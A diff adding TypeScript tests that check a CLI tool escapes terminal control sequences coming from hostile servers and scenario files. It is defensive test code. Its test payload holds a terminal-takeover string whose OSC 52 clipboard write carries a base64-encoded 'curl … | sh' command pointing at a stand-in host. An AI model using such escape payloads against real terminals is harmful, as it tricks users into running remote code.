@@ -1,0 +1,108 @@
+// Second review, item 1: peer and file text in ERROR paths reaches the terminal only as visible
+// escapes. Real `dhlab` processes against servers that answer hello with hostile frames, and
+// scenario files that carry the same sequences in titles, names and failing expectations.
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { describe, it } from 'node:test';
+import { run } from './cli-run.ts';
+import { PREKEY_REPLIES, startPrekeyHostileServer, TERMINAL_TAKEOVER } from './prekey-hostile-server.ts';
+
+/** ESC, C1 controls, BEL and bidi controls: none may leave dhlab toward a terminal. */
+const TERMINAL_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u; // eslint-disable-line no-control-regex
+
+function collectRaw(running: ReturnType<typeof run>): () => string {
+  const raw: Buffer[] = [];
+  running.proc.stdout?.on('data', (chunk: Buffer) => raw.push(chunk));
+  running.proc.stderr?.on('data', (chunk: Buffer) => raw.push(chunk));
+  return () => Buffer.concat(raw).toString('utf8');
+}
+
+describe('error paths: a hostile server before keys exist', () => {
+  for (const [what, reply] of Object.entries(PREKEY_REPLIES)) {
+    it(`dhlab client shows ${what} escaped, and exits 1 although stdin stays open`, async () => {
+      const server = await startPrekeyHostileServer(reply);
+      try {
+        const client = run(['client', '--name', 'alice', '--port', String(server.port), '--known-servers', '/dev/null']);
+        const printed = collectRaw(client);
+        // stdin is never ended: the client must still exit after the fatal error.
+        assert.equal(await client.exit, 1);
+        assert.doesNotMatch(printed(), TERMINAL_CONTROL);
+        assert.match(printed(), /\\x1b\]0;pwn/);
+      } finally {
+        await server.close();
+      }
+    });
+  }
+
+  it('dhlab client --json: the error event is terminal-safe JSON that parses to the same text', async () => {
+    const server = await startPrekeyHostileServer(PREKEY_REPLIES['a plaintext error'] as never);
+    try {
+      const client = run(['client', '--name', 'alice', '--port', String(server.port), '--known-servers', '/dev/null', '--json']);
+      const printed = collectRaw(client);
+      assert.equal(await client.exit, 1);
+      assert.doesNotMatch(printed(), TERMINAL_CONTROL);
+      const error = client.json().find((e) => e.type === 'error');
+      assert.ok(String(error?.message).includes(TERMINAL_TAKEOVER), 'the JSON keeps the exact text');
+    } finally {
+      await server.close();
+    }
+  });
+});
+
+describe('error paths: a hostile scenario file', () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dhlab-hostile-scenario-'));
+  // YAML double quotes understand \e (ESC), \a (BEL) and \x9b (8-bit CSI).
+  const takeover = '\\e]0;pwned\\a\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\e[2J\\e[H\\e[32mall good\\e[0m\\x9b31m';
+  const scenario = (expectation: string) => `title: "lesson ${takeover}"
+summary: "${takeover}"
+seed: "1"
+actors:
+  server: { group: modp14 }
+  clients: [alice, bob]
+steps:
+  - title: "step ${takeover}"
+    narration: "narration ${takeover}"
+    action: { connect: alice }
+  - title: "bob ${takeover}"
+    narration: "bob ${takeover}"
+    action: { connect: bob }
+  - title: "say ${takeover}"
+    narration: "say ${takeover}"
+    action:
+      say: { from: alice, text: "hello" }
+    expect:
+${expectation}
+`;
+
+  it('run --headless: titles and narration print escaped', async () => {
+    const file = path.join(dir, 'titles.yaml');
+    fs.writeFileSync(file, scenario('      - receives: { who: bob, from: alice, text: "hello" }'));
+    const running = run(['scenario', file, '--headless']);
+    const printed = collectRaw(running);
+    assert.equal(await running.exit, 0, printed());
+    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
+    assert.match(printed(), /step \\x1b\]0;pwned\\x07/);
+  });
+
+  it('a failing expectation that quotes the file: ERR_EXPECTATION, escaped', async () => {
+    const file = path.join(dir, 'expectation.yaml');
+    fs.writeFileSync(file, scenario(`      - receives: { who: bob, from: alice, text: "${takeover}" }`));
+    const running = run(['scenario', file, '--headless']);
+    const printed = collectRaw(running);
+    assert.equal(await running.exit, 1);
+    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
+    assert.match(printed(), /ERR_EXPECTATION/);
+  });
+
+  it('a malformed field that quotes the file: ERR_SCENARIO, escaped', async () => {
+    const file = path.join(dir, 'malformed.yaml');
+    fs.writeFileSync(file, scenario('      - receives: { who: bob, from: alice, text: "x" }').replace('clients: [alice, bob]', `clients: [alice, "b${takeover}"]`));
+    const running = run(['scenario', file, '--headless']);
+    const printed = collectRaw(running);
+    assert.equal(await running.exit, 1);
+    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
+    assert.match(printed(), /ERR_SCENARIO/);
+  });
+});
